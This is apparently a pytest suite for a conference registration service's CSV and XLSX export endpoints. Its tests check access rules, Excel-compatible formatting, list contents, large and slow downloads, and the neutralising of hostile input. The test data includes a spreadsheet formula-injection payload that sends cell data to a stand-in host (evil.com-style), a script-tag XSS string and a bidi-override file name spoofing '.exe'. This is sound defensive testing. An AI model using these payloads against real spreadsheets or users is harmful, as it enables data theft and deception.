"""The organisers' exports (/api/v1/admin/events/{id}/exports/...): who may
take them, CSV as Swedish Excel reads it (BOM, semicolons, CRLF, RFC 4180
quoting, formulas neutralised) read back with the csv module, XLSX read back
with openpyxl (typed cells, frozen header, filter, formulas kept as text),
what each list holds, big exports, slow and vanishing clients, and exports
running beside registrations."""
from concurrent.futures import ThreadPoolExecutor
import csv
from datetime import datetime
import io
import os
import re
import socket
import sqlite3
import time
import urllib.parse
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import requests

from techtank_test import person, registration

BOM = b"\xef\xbb\xbf"
STOCKHOLM = ZoneInfo("Europe/Stockholm")
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EXPORTS = ["attendees", "catering", "checkins", "invoices", "sessions/9/signups"]
ATTENDEE_HEAD_SV = ["ID", "Anmälan", "Förnamn", "Efternamn", "E-post", "Telefon (kontaktperson)",
                    "Företag", "Befattning", "Biljettyp", "Status", "Anmäld", "Specialkost",
                    "Anmäld till", "Incheckad", "Passkod", "Kontaktperson"]


@pytest.fixture
def org(daemon):
    daemon.add_user("anna", "door")
    daemon.add_user("olle", "organiser")
    daemon.anna = daemon.login("anna")
    daemon.olle = daemon.login("olle")
    return daemon


def export(d, what, fmt="csv", event=1, who=None, **params):
    url = f"{d.url}/api/v1/admin/events/{event}/exports/{what}.{fmt}"
    return (who or d.olle).get(url, params=params, timeout=60)


def csv_rows(r, sep=";"):
    """The rows of a CSV answer, its BOM and separator checked."""
    assert r.status_code == 200, r.text
    assert r.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert r.content.startswith(BOM)
    text = r.content[len(BOM):].decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=sep, strict=True))
    assert len(rows[0]) > 1, "the header splits at the separator"
    return rows


def workbook(r):
    assert r.status_code == 200, r.text
    assert r.headers["Content-Type"] == XLSX_TYPE
    assert int(r.headers["Content-Length"]) == len(r.content)
    return openpyxl.load_workbook(io.BytesIO(r.content)).active


def bulk_attendees(d, n, signup_every=0):
    """n attendees written straight into the file (the daemon stopped and
    started around it, which recounts the counters)."""
    d.stop()
    con = sqlite3.connect(d.db)
    con.executescript(f"""
        UPDATE events SET capacity = NULL;
        UPDATE ticket_types SET quota = NULL;
        UPDATE sessions SET seats = NULL;
        WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < {(n + 9) // 10})
        INSERT INTO registrations (id, event_id, ticket_type_id, status, manage_token,
            contact_first_name, contact_last_name, contact_email, contact_phone,
            privacy_accepted_at, created_at)
        SELECT 1000 + n, 1, 1, 'confirmed', printf('bulk%028d', n), 'Kontakt', 'Person',
            printf('c%d@example.se', n), '+46 70 000 00 00', 1790000000, 1790000000 FROM r;
        WITH RECURSIVE a(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM a WHERE n < {n})
        INSERT INTO attendees (registration_id, event_id, ticket_type_id, first_name, last_name,
            email, email_norm, company, job_title, dietary, status, pass_code, created_at,
            confirmed_at)
        SELECT 1000 + (n + 9) / 10, 1, 1, 'Åsa', 'Lindström-Öberg ' || n, 'bulk' || n || '@example.se',
            'bulk' || n || '@example.se', 'Pressverk Olofström AB', 'Verktygsingenjör',
            CASE n % 7 WHEN 0 THEN 'vegetarisk' ELSE '' END, 'confirmed',
            printf('TT-BULK%020d', n), 1790000000 + n, 1790000000 + n FROM a;
    """)
    if signup_every:
        con.execute("INSERT INTO attendee_sessions SELECT id, 11 FROM attendees"
                    " WHERE id % ? = 0", (signup_every,))
    con.commit()
    con.close()
    d.start()
    d.olle = d.login("olle")


def rss_kb(d):
    with open(f"/proc/{d.proc.pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise AssertionError("no VmRSS")


def cookie_header(d):
    return "; ".join(f"{k}={v}" for k, v in d.olle.cookies.items())


def temp_files(d):
    return [f for f in os.listdir(d.tmp) if f.startswith("techtank-export-")]


# ------------------------------------------------------------ who may

@pytest.mark.parametrize("what,fmt", [(w, f) for w in EXPORTS for f in ("csv", "xlsx")])
def test_only_organisers_take_exports(org, what, fmt):
    url = f"{org.url}/api/v1/admin/events/1/exports/{what}.{fmt}"
    anonymous = requests.get(url, timeout=10)
    assert anonymous.status_code == 401
    assert anonymous.json()["error"]["code"] == "login_required"
    assert "Content-Disposition" not in anonymous.headers
    door = org.anna.get(url, timeout=10)
    assert door.status_code == 403 and door.json()["error"]["code"] == "forbidden"
    assert org.olle.get(url, timeout=30).status_code == 200
    # Exports are read, never written: other methods are refused.
    post = org.olle.post(url, json={}, timeout=10)
    assert post.status_code == 405 and "GET" in post.headers["Allow"]


def test_the_list_of_exports(org):
    url = f"{org.url}/api/v1/admin/events/1/exports"
    assert requests.get(url, timeout=10).status_code == 401
    assert org.anna.get(url, timeout=10).status_code == 403
    body = org.olle.get(url, timeout=10).json()
    assert body["event"] == 1 and body["name"] == "Techtank Conference 2027"
    kinds = [(e["export"], e.get("session", {}).get("id")) for e in body["exports"]]
    assert kinds == [("attendees", None), ("catering", None), ("checkins", None),
                     ("invoices", None), ("signups", 9), ("signups", 11)]
    for e in body["exports"]:
        for fmt in ("csv", "xlsx"):
            assert org.olle.get(org.url + e[fmt], timeout=30).status_code == 200
    assert org.olle.get(f"{org.url}/api/v1/admin/events/99/exports", timeout=10).status_code == 404


@pytest.mark.parametrize("path", [
    "/events/99/exports/attendees.csv", "/events/99/exports/attendees.xlsx",
    "/events/0/exports/catering.csv", "/events/01/exports/checkins.csv",
    "/events/abc/exports/attendees.csv", "/events/-1/exports/attendees.csv",
    "/events/99999999999999999999999/exports/attendees.csv",
    "/events/1/exports/sessions/8/signups.csv",      # the lunch takes no sign-ups
    "/events/1/exports/sessions/999/signups.xlsx",
    "/events/1/exports/sessions/x/signups.csv",
    "/events/1/exports/nothing.csv", "/events/1/exports/attendees.pdf",
])
def test_unknown_event_or_session_is_404(org, path):
    r = org.olle.get(org.url + "/api/v1/admin" + path, timeout=10)
    assert r.status_code == 404
    assert r.json()["error"]["code"] == "not_found"
    assert "Content-Disposition" not in r.headers


def test_a_session_of_another_event_is_404(org):
    other = org.olle.post(org.url + "/api/v1/admin/events", json={
        "slug": "seminar-2028", "name": "Seminarium", "starts_at": "2028-03-01T09:00:00+01:00",
        "ends_at": "2028-03-01T16:00:00+01:00"}, timeout=10).json()
    assert export(org, "attendees", event=other["id"]).status_code == 200
    assert export(org, "sessions/9/signups", event=other["id"]).status_code == 404


@pytest.mark.parametrize("query", ["lang=de", "lang=", "sep=tab", "sep=%3B", "lang=SV"])
def test_bad_parameters_are_422(org, query):
    r = org.olle.get(f"{org.url}/api/v1/admin/events/1/exports/attendees.csv?{query}",
                     timeout=10)
    assert r.status_code == 422
    err = r.json()["error"]
    assert err["code"] == "validation_failed"
    assert set(err["fields"]) <= {"lang", "sep"} and err["fields"]
    assert set(err["fields"].values()) == {"not_a_choice"}


def test_hostile_input_is_refused_before_it_gets_in(org):
    """NUL, control characters, invalid UTF-8 and oversized cells never
    reach the store through the API; the exports below prove that what got
    in some other way still comes out safely."""
    for bad in ({"first_name": "Åsa\u0000"}, {"last_name": "Tab\tbed"},
                {"company": "two\nlines"}, {"company": "C" * 1000}):
        body = registration()
        body["attendees"][0].update(bad)
        r = org.register(body)
        assert r.status_code == 422, (bad, r.text)
    raw = b'{"ticket_type": 1, "privacy_accepted": true, "contact": {"first_name": "\xff"}}'
    r = org.post("/api/v1/registrations", raw)
    assert r.status_code == 422 and r.json()["error"]["code"] == "invalid_utf8"
    rows = csv_rows(export(org, "attendees"))
    assert len(rows) == 1  # nothing was written


# ------------------------------------------------------------ CSV

HOSTILE = {
    # Formula injection, as typed into the registration form.
    "hyperlink": ("company", '=HYPERLINK("http://evil.example/?d="&A2;"Klicka här")'),
    "plus": ("company", "+46 70 123 45 67"),
    "minus": ("job_title", "-2+3"),
    "at": ("company", "@SUM(A1:A9)"),
    "html": ("company", "<script>alert('x')</script><b>Press</b>"),
    "quotes": ("company", 'AB "Press ""hård"" Verktyg" i Olofström'),
    "separators": ("dietary", 'vegansk; inga nötter, "absolut" inga'),
}


def contact_of(p, phone="+46 70 123 45 67"):
    return {k: p[k] for k in ("first_name", "last_name", "email")} | {"phone": phone}


def hostile_registrations(d):
    """One attendee per hostile value through the API, an Arabic and a
    Hebrew name; then what the API refuses, written into the file directly
    (as another program could): tab, CR, newlines, NUL, invalid UTF-8, a
    1000-character company. Returns {key: (email, field, value)}."""
    cases = {}
    for key, (field, value) in HOSTILE.items():
        p = person(**{field: value})
        r = d.register(registration(attendees=[p], contact=contact_of(p)))
        assert r.status_code == 201, (key, r.text)
        cases[key] = (p["email"], field, value)
    rtl = person(first="فاطمة", last="الزهراء", company="شركة الضغط")
    hebrew = person(first="שרה", last="כהן")
    assert d.register(registration(attendees=[rtl, hebrew], contact=contact_of(rtl))).status_code == 201
    cases["arabic"] = (rtl["email"], "last_name", "الزهراء")
    cases["hebrew"] = (hebrew["email"], "first_name", "שרה")
    direct = {
        "tab": ("job_title", "\tTabbed title"),
        "cr": ("last_name", "\rCarriage"),
        "newlines": ("dietary", "two\nlines\r\nand a CR\rhere"),
        "long": ("company", "Å" * 1000),
    }
    for key, (field, value) in direct.items():
        p = person()
        assert d.register(registration(attendees=[p], contact=contact_of(p))).status_code == 201
        d.sql(f"UPDATE attendees SET {field} = ? WHERE email = ?", value, p["email"])
        cases[key] = (p["email"], field, value)
    for key, blob in (("nul", b"Nul\x00here"), ("utf8", b"Bad \xff\xfe bytes \xc3")):
        p = person()
        assert d.register(registration(attendees=[p], contact=contact_of(p))).status_code == 201
        d.sql("UPDATE attendees SET company = CAST(? AS TEXT) WHERE email = ?", blob, p["email"])
        cases[key] = (p["email"], "company", blob)
    return cases


COLUMN = {"first_name": 2, "last_name": 3, "company": 6, "job_title": 7, "dietary": 11}
REPAIRED = {"nul": "Nul\ufffdhere", "utf8": "Bad \ufffd\ufffd bytes \ufffd"}


def expected_csv(key, value):
    if key in REPAIRED:
        return REPAIRED[key]
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


def test_csv_round_trip_with_hostile_cells(org):
    cases = hostile_registrations(org)
    r = export(org, "attendees")
    rows = csv_rows(r)
    assert rows[0] == ATTENDEE_HEAD_SV
    by_email = {row[4]: row for row in rows[1:]}
    assert len(by_email) == len(rows) - 1 == len(cases) == 15
    for key, (email, field, value) in cases.items():
        got = by_email[email][COLUMN[field]]
        assert got == expected_csv(key, value), key
    assert all(len(row) == 16 for row in rows)
    assert by_email[cases["long"][0]][6] == "Å" * 1000
    # Every line ends in CRLF: outside quoted cells there is no bare LF or CR.
    text = r.content[len(BOM):].decode("utf-8")
    outside = re.sub(r'"(?:[^"]|"")*"', "", text)
    assert outside.endswith("\r\n") and "\n" not in outside.replace("\r\n", "")
    assert "\r" not in outside.replace("\r\n", "")
    # The phone of the registration's contact, neutralised like any cell.
    assert by_email[cases["plus"][0]][5] == "'+46 70 123 45 67"
    # Words in Swedish; times in the event's zone, as Excel reads them.
    row = by_email[cases["html"][0]]
    assert row[9] == "bekräftad" and row[8] == "Member"
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", row[10])


def test_csv_with_commas_and_in_english(org):
    cases = hostile_registrations(org)
    rows = csv_rows(export(org, "attendees", sep="comma", lang="en"), sep=",")
    assert rows[0][:4] == ["ID", "Registration", "First name", "Last name"]
    by_email = {row[4]: row for row in rows[1:]}
    for key, (email, field, value) in cases.items():
        assert by_email[email][COLUMN[field]] == expected_csv(key, value), key
    assert by_email[cases["html"][0]][9] == "confirmed"
    # With semicolons, the cell with commas needed its quotes only for ';'.
    semi = export(org, "attendees", lang="en").content.decode("utf-8")
    assert '"vegansk; inga nötter, ""absolut"" inga"' in semi
    assert "ID;Registration;" in semi


def test_the_file_is_named_after_the_event_and_the_day(org):
    today = datetime.now(STOCKHOLM).strftime("%Y-%m-%d")
    r = export(org, "catering")
    cd = r.headers["Content-Disposition"]
    assert cd.startswith("attachment; ")
    ascii_name = re.search(r'filename="([^"]+)"', cd).group(1)
    utf8_name = urllib.parse.unquote(re.search(r"filename\*=UTF-8''(\S+)", cd).group(1))
    assert ascii_name == f"techtank-2027-maltider-{today}.csv"
    assert utf8_name == f"techtank-2027-måltider-{today}.csv"
    assert r.headers["Cache-Control"] == "no-store"
    r = export(org, "sessions/9/signups", fmt="xlsx", lang="en")
    cd = r.headers["Content-Disposition"]
    assert f'filename="techtank-2027-signups-studiebesok-presslinjen-hos-pressverk-o-{today}.xlsx"' in cd
    assert urllib.parse.unquote(cd.split("UTF-8''")[1]) == \
        f"techtank-2027-signups-Studiebesök-presslinjen-hos-Pressverk-O-{today}.xlsx"


def test_head_gives_the_headers_alone(org):
    for fmt in ("csv", "xlsx"):
        r = requests.head(f"{org.url}/api/v1/admin/events/1/exports/attendees.{fmt}",
                          cookies=org.olle.cookies, timeout=10)
        assert r.status_code == 200 and r.content == b""
        assert r.headers["Content-Disposition"].startswith("attachment; ")
    assert requests.head(f"{org.url}/api/v1/admin/events/1/exports/attendees.csv",
                         timeout=10).status_code == 401


# ------------------------------------------------------------ XLSX

def test_xlsx_round_trip_typed_frozen_filtered(org):
    cases = hostile_registrations(org)
    n = len(cases)
    ws = workbook(export(org, "attendees", fmt="xlsx"))
    assert ws.title == "Deltagare"
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:P{n + 1}"
    assert [c.value for c in ws[1]] == ATTENDEE_HEAD_SV
    assert ws.max_row == n + 1
    assert ws.column_dimensions["E"].width > 20  # the email column is wide
    by_email = {row[4].value: row for row in ws.iter_rows(min_row=2)}
    for row in ws.iter_rows():
        for c in row:
            assert c.data_type != "f", (c.coordinate, c.value)
    for key, (email, field, value) in cases.items():
        c = by_email[email][COLUMN[field]]
        assert c.data_type == "s", key
        want = REPAIRED.get(key, value)
        if key == "cr":
            # XML keeps a CR only as _x000D_, which openpyxl reads back as is.
            assert c.value in (want, want.replace("\r", "_x000D_")), key
        elif key == "newlines":
            assert c.value.replace("_x000D_", "\r") == want, key
        else:
            assert c.value == want, key  # no apostrophe in a workbook
        if want[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert c.number_format == "@", key
    first = by_email[cases["html"][0]]
    assert isinstance(first[0].value, int) and first[0].data_type == "n"
    assert isinstance(first[1].value, int)
    # Registered at: the event's wall clock as an Excel date.
    created = org.sql("SELECT created_at FROM attendees WHERE email = ?", cases["html"][0])[0][0]
    local = datetime.fromtimestamp(created, STOCKHOLM).replace(tzinfo=None)
    assert first[10].is_date and first[10].value == local
    assert first[10].number_format == "yyyy-mm-dd hh:mm"
    assert first[9].value == "bekräftad"
    assert by_email[cases["long"][0]][6].value == "Å" * 1000
    assert temp_files(org) == []


def test_xlsx_in_english(org):
    org.register()
    ws = workbook(export(org, "checkins", fmt="xlsx", lang="en"))
    assert ws.title == "Checkins"
    assert [c.value for c in ws[1]] == ["Checkpoint", "First name", "Last name", "Company",
                                        "Ticket type", "Result", "Checked in at", "Checked in by"]
    assert [c.value for c in ws[2]][0] == "Main entrance"
    assert ws[2][5].value == "no-show"


# ------------------------------------------------------------ what each holds

def register_one(d, dietary="", sessions=(), **extra):
    p = person(dietary=dietary, **extra)
    if sessions:
        p["sessions"] = list(sessions)
    r = d.register(registration(attendees=[p], contact=contact_of(p, "+46 70 555 12 34")))
    assert r.status_code == 201, r.text
    return r.json()["attendees"][0], p


def test_catering_counts_needs_per_meal(org):
    register_one(org, "Vegetarisk", sessions=[11])
    register_one(org, " vegetarisk ")
    register_one(org, "Glutenfri", sessions=[11])
    register_one(org, "")
    register_one(org, "", sessions=[11])
    rows = csv_rows(export(org, "catering"))
    assert rows[0] == ["Måltid", "Tid", "Specialkost", "Portioner"]
    assert rows[1:] == [
        ["Lunch", "2027-11-30 12:00", "Ingen specialkost", "2"],
        ["Lunch", "2027-11-30 12:00", "glutenfri", "1"],
        ["Lunch", "2027-11-30 12:00", "vegetarisk", "2"],
        ["Konferensmiddag", "2027-11-30 19:00", "Ingen specialkost", "1"],
        ["Konferensmiddag", "2027-11-30 19:00", "glutenfri", "1"],
        ["Konferensmiddag", "2027-11-30 19:00", "vegetarisk", "1"],
        ["Lunch", "2027-12-01 12:00", "Ingen specialkost", "2"],
        ["Lunch", "2027-12-01 12:00", "glutenfri", "1"],
        ["Lunch", "2027-12-01 12:00", "vegetarisk", "2"],
    ]
    ws = workbook(export(org, "catering", fmt="xlsx", lang="en"))
    assert ws[2][2].value == "No special diet" and ws[2][3].value == 2
    assert ws[2][1].value == datetime(2027, 11, 30, 12, 0)


def test_signup_list_is_the_bus_list(org):
    org.set_limits(ticket_type=1, quota=2, waitlist=True)
    org.olle = org.login("olle")
    a, pa = register_one(org, sessions=[9], company="Nordpress AB")
    b, pb = register_one(org, "Laktosfri", sessions=[9, 11])
    c, pc = register_one(org, sessions=[9])
    assert a["status"] == b["status"] == "confirmed" and c["status"] == "waitlisted"
    register_one(org, sessions=[11])
    rows = csv_rows(export(org, "sessions/9/signups"))
    assert rows[0] == ["Förnamn", "Efternamn", "Företag", "Telefon (kontaktperson)", "E-post",
                       "Specialkost"]
    assert rows[1:] == [
        ["Åsa", "Lindström-Öberg", "Nordpress AB", "'+46 70 555 12 34", pa["email"], ""],
        ["Åsa", "Lindström-Öberg", "Pressverk AB", "'+46 70 555 12 34", pb["email"], "Laktosfri"],
    ]
    assert len(csv_rows(export(org, "sessions/11/signups"))) == 2  # b; the fourth waits


def test_checkins_and_no_shows_per_checkpoint(org):
    a, pa = register_one(org, sessions=[9])
    b, pb = register_one(org, sessions=[9])
    c, pc = register_one(org)

    def scan(att, cp="main"):
        r = org.anna.post(org.url + "/api/v1/checkins",
                          json={"code": att["pass_code"], "checkpoint": cp}, timeout=10)
        assert r.status_code == 200 and r.json()["result"] == "ok", r.text
        return r.json()["checkin_id"]

    undone = scan(a)
    scan(b)
    scan(b, "session-9")
    assert org.olle.delete(f"{org.url}/api/v1/checkins/{undone}", timeout=10).status_code == 200
    # b cancels after the visit: no sign-up any more, still checked in there.
    token = org.sql("SELECT r.manage_token FROM registrations r JOIN attendees a"
                    " ON a.registration_id = r.id WHERE a.id = ?", b["id"])[0][0]
    assert org.delete(f"/api/v1/registrations/{token}").status_code == 200
    rows = csv_rows(export(org, "checkins"))
    assert rows[0] == ["Kontrollpunkt", "Förnamn", "Efternamn", "Företag", "Biljettyp",
                       "Resultat", "Incheckad", "Incheckad av"]
    got = [(r[0], r[5], r[7], bool(r[6])) for r in rows[1:]]
    visit = "Studiebesök: presslinjen hos Pressverk Olofström"
    assert got == [
        ("Huvudentré", "uteblev", "", False),        # a: the check-in was undone
        ("Huvudentré", "incheckad", "anna", True),   # b, cancelled since
        ("Huvudentré", "uteblev", "", False),        # c
        (visit, "uteblev", "", False),                # a
        (visit, "incheckad", "anna", True),           # b, from the check-in alone
    ]


# ------------------------------------------------------------ big, slow, gone

def test_an_export_of_5000_attendees_is_whole(org):
    bulk_attendees(org, 5000, signup_every=4)
    rows = csv_rows(export(org, "attendees"))
    assert len(rows) == 5001
    ids = [int(r[0]) for r in rows[1:]]
    assert ids == sorted(ids) and len(set(ids)) == 5000
    assert rows[-1][3] == "Lindström-Öberg 5000" and rows[-2][12] == ""
    assert rows[4][12] == rows[-1][12] == "Konferensmiddag"
    assert len(csv_rows(export(org, "sessions/11/signups"))) == 1251
    assert len(csv_rows(export(org, "checkins"))) == 5001 + 1250
    lunch = [r for r in csv_rows(export(org, "catering")) if r[1] == "2027-11-30 12:00"]
    assert sum(int(r[3]) for r in lunch) == 5000
    ws = workbook(export(org, "attendees", fmt="xlsx"))
    assert ws.max_row == 5001 and ws.auto_filter.ref == "A1:P5001"
    assert ws.cell(row=5001, column=1).value == ids[-1]
    assert temp_files(org) == []


def start_download(d, what="attendees.csv", version="1.1", extra=""):
    s = socket.create_connection(("127.0.0.1", d.port))
    s.sendall(f"GET /api/v1/admin/events/1/exports/{what} HTTP/{version}\r\nHost: x\r\n"
              f"Cookie: {cookie_header(d)}\r\n{extra}\r\n".encode())
    return s


def dechunk(body):
    out, pos = [], 0
    while True:
        end = body.index(b"\r\n", pos)
        size = int(body[pos:end], 16)
        if size == 0:
            return b"".join(out)
        out.append(body[end + 2:end + 2 + size])
        pos = end + 2 + size + 2


def test_a_slow_reader_does_not_make_the_daemon_buffer(org, monkeypatch):
    """100,000 rows are 22 MB of CSV: a client that reads a few kilobytes
    at a time must not have them made ahead of it in the daemon's memory.
    (AddressSanitizer keeps 256 MB of freed memory resident, which would
    measure how much was freed: the daemon of this test keeps 1 MB.)"""
    monkeypatch.setenv("ASAN_OPTIONS", os.environ.get("ASAN_OPTIONS", "") +
                       ":quarantine_size_mb=1")
    bulk_attendees(org, 100000)
    before = rss_kb(org)
    s = start_download(org)
    data, peak, t0 = bytearray(), before, time.time()
    while time.time() - t0 < 3:
        chunk = s.recv(2048)
        assert chunk
        data += chunk
        peak = max(peak, rss_kb(org))
        time.sleep(0.02)
    # kB; the whole file is 22,000, and the kernel holds a few MB of it.
    assert peak - before < 8000, (before, peak, len(data))
    # The rest, read at once, makes the whole file.
    s.settimeout(60)
    while not data.endswith(b"\r\n0\r\n\r\n"):
        chunk = s.recv(1 << 20)
        assert chunk
        data += chunk
    s.close()
    head, _, body = bytes(data).partition(b"\r\n\r\n")
    assert b"Transfer-Encoding: chunked" in head
    lines = dechunk(body).split(b"\r\n")
    assert len(lines) == 100002 and lines[-1] == b""
    assert lines[-2].startswith(b"100000;")
    assert org.get("/healthz").status_code == 200


def test_clients_that_go_away_midway(org):
    bulk_attendees(org, 20000)
    for what in ("attendees.csv", "checkins.csv", "attendees.xlsx", "checkins.xlsx"):
        for keep in (0, 5000):
            s = start_download(org, what)
            if keep:
                s.recv(keep)
            s.close()
    # Nothing is left behind: the daemon answers, and the files are gone.
    time.sleep(1)
    assert csv_rows(export(org, "catering"))
    assert workbook(export(org, "catering", fmt="xlsx"))
    deadline = time.time() + 20
    while temp_files(org) and time.time() < deadline:
        time.sleep(0.2)
    assert temp_files(org) == []


def test_http10_gets_the_body_until_the_close(org):
    org.register()
    s = start_download(org, "attendees.csv", version="1.0", extra="Connection: keep-alive\r\n")
    s.settimeout(10)
    data = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
    s.close()
    head, _, body = data.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.0 200") or head.startswith(b"HTTP/1.1 200")
    assert b"Content-Length" not in head and b"chunked" not in head.lower()
    assert body.startswith(BOM) and body.count(b"\r\n") == 2


def test_ten_exports_at_once_beside_registrations(org):
    bulk_attendees(org, 3000, signup_every=3)
    formats = [("attendees", "csv"), ("attendees", "xlsx"), ("checkins", "csv"),
               ("catering", "csv"), ("sessions/11/signups", "csv"), ("attendees", "csv"),
               ("checkins", "xlsx"), ("catering", "xlsx"), ("attendees", "csv"),
               ("sessions/11/signups", "xlsx")]

    def take(job):
        what, fmt = job
        s = requests.Session()
        s.cookies.update(org.olle.cookies)
        r = s.get(f"{org.url}/api/v1/admin/events/1/exports/{what}.{fmt}", timeout=120)
        return what, fmt, r

    with ThreadPoolExecutor(max_workers=20) as pool:
        exports = [pool.submit(take, job) for job in formats]
        regs = [pool.submit(org.register) for _ in range(40)]
        results = [f.result() for f in exports]
        assert all(f.result().status_code == 201 for f in regs)
    for what, fmt, r in results:
        if fmt == "csv":
            rows = csv_rows(r)
            if what == "attendees":
                assert 3001 <= len(rows) <= 3041
        else:
            ws = workbook(r)
            if what == "attendees":
                assert 3001 <= ws.max_row <= 3041
    assert len(csv_rows(export(org, "attendees"))) == 3041
    assert temp_files(org) == []


def test_a_client_that_stops_reading_is_let_go(make_daemon):
    d = make_daemon("--timeout", "2")
    d.add_user("olle", "organiser")
    bulk_attendees(d, 50000)
    s = start_download(d)
    s.recv(1000)
    time.sleep(4)  # reads nothing: the write time-out ends it
    assert d.get("/healthz").status_code == 200
    log = open(os.path.join(d.tmp, "access.log")).read()
    line = [x for x in log.splitlines() if "attendees.csv" in x][-1]
    assert " 200 " in line and int(line.split()[-2]) < 11_000_000
    s.close()


def test_a_download_still_running_when_the_daemon_stops(make_daemon):
    d = make_daemon("--timeout", "60")
    d.add_user("olle", "organiser")
    bulk_attendees(d, 50000)
    s = start_download(d)
    s.recv(1000)
    t0 = time.time()
    assert d.stop() == 0  # clean, after the grace for answers in flight
    assert time.time() - t0 < 14
    s.close()


def test_a_workbook_that_cannot_be_written_is_a_500(make_daemon, monkeypatch):
    monkeypatch.setenv("TMPDIR", "/nonexistent/techtank")
    d = make_daemon()
    d.add_user("olle", "organiser")
    d.olle = d.login("olle")
    d.register()
    r = export(d, "attendees", fmt="xlsx")
    assert r.status_code == 500 and r.json()["error"]["code"] == "internal"
    assert "Content-Disposition" not in r.headers
    assert len(csv_rows(export(d, "attendees"))) == 2  # CSV needs no file
    assert "attendees.xlsx: /nonexistent/techtank: No such file" in d.log()


def test_a_hostile_session_title_cannot_steer_the_file_name(org):
    # Bidi overrides, quotes, slashes and controls in a title become dashes
    # in both names, the UTF-8 one too; its letters stay.
    org.sql("UPDATE sessions SET title = ? WHERE id = 9",
            "Bus\u202egpj.exe\u202c \"tur\"/../\tretur; Ölandsbron")
    today = datetime.now(STOCKHOLM).strftime("%Y-%m-%d")
    cd = export(org, "sessions/9/signups").headers["Content-Disposition"]
    ascii_name = re.search(r'filename="([^"]+)"', cd).group(1)
    utf8_name = urllib.parse.unquote(re.search(r"filename\*=UTF-8''(\S+)", cd).group(1))
    assert ascii_name == f"techtank-2027-anmalda-busgpj-exe-tur-retur-olandsbron-{today}.csv"
    assert utf8_name == f"techtank-2027-anmälda-Bus-gpj-exe-tur-retur-Ölandsbron-{today}.csv"
    for name in (ascii_name, utf8_name):
        assert not any(c in name for c in "\u202e\u202c\"/\t;")
